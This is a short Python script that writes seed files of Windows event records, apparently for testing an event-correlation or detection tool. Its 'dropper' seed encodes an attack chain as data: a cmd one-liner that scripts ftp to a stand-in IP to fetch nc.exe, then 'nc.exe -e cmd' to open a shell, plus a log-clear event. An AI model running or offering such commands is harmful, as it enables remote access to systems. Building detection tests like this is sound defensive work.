#!/usr/bin/env python3
"""Writes the seeds of the target `correlate`: events, a line each, that belong together."""

import pathlib

FTP, CMD, NC = r"C:\Windows\System32\ftp.exe", r"C:\Windows\System32\cmd.exe", r"C:\Users\Public\nc.exe"
DROPPER = [
    (0, 1, 10, 8, CMD, "cmd /c (echo open 203.0.113.10)>f.txt&ftp -s:f.txt"),
    (1, 11, 10, 8, CMD, r"C:\Users\Public\f.txt"),
    (2, 1, 12, 10, FTP, "ftp -n -s:f.txt"),
    (3, 22, 12, 10, FTP, "ftp.example"),
    (3, 3, 12, 10, FTP, "203.0.113.10"),
    (4, 11, 12, 10, FTP, NC),
    (5, 5, 12, 10, FTP, ""),
    (6, 23, 10, 8, CMD, r"C:\Users\Public\f.txt"),
    (9, 1, 14, 10, NC, "nc.exe -e cmd"),
    (10, 100, 1, 1, "", r"C:\Users\Public\nc.exe -d"),
]
PIDS = [(0, 1, 3, 1, CMD, "cmd"), (1, 5, 3, 1, CMD, ""), (2, 1, 3, 1, FTP, "ftp"), (3, 1, 5, 3, CMD, "cmd /c whoami")]
MEMORY = [(0, 101, 1, 1, "FTP.EXE", NC), (90, 101, 1, 1, "NC.EXE", NC), (99, 1102, 1, 1, "", "")]


def main():
    folder = pathlib.Path(__file__).parent / "correlate"
    folder.mkdir(exist_ok=True)
    for name, events in [("dropper", DROPPER), ("pids", PIDS), ("memory", MEMORY)]:
        text = "".join("\t".join(map(str, event)) + "\n" for event in events)
        (folder / name).write_bytes(text.encode())


main()
